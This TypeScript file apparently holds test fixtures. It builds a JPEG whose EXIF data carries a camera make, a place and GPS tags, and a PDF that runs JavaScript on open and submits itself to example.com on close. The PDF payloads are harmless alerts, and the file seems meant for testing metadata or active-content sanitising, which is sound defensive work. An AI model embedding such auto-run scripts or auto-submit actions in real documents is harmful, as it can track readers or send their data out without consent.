import sharp from "sharp";
import { writePdf } from "./write-pdf.ts";

/** A small photo whose notes say where, and with which camera, it was taken: `SECRETPLACE`, `SECRETCAMERA`. */
export const photoWithPlace = (): Promise<Buffer> =>
  sharp({ create: { width: 300, height: 200, channels: 3, background: "#88bbee" } })
    .withExif({
      IFD0: { Make: "SECRETCAMERA", ImageDescription: "SECRETPLACE" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "37/1 46/1 0/1" },
    })
    .jpeg()
    .toBuffer();

/** A PDF of a line of text that runs a script when it is opened, and sends itself away. */
export const pdfWithScript = (): Buffer =>
  writePdf([
    {
      head: "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('SECRETSCRIPT'\\))>>/AA<</WC<</S/SubmitForm/F(https://example.com)>>>>>>",
    },
    { head: "<</Type/Pages/Count 1/Kids[3 0 R]>>" },
    {
      head: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>>>",
    },
    {
      head: "",
      stream: Buffer.from(
        "BT /F1 14 Tf 40 700 Td (The school play is on Friday at six in the hall.) Tj ET",
      ),
    },
    { head: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>" },
  ]);
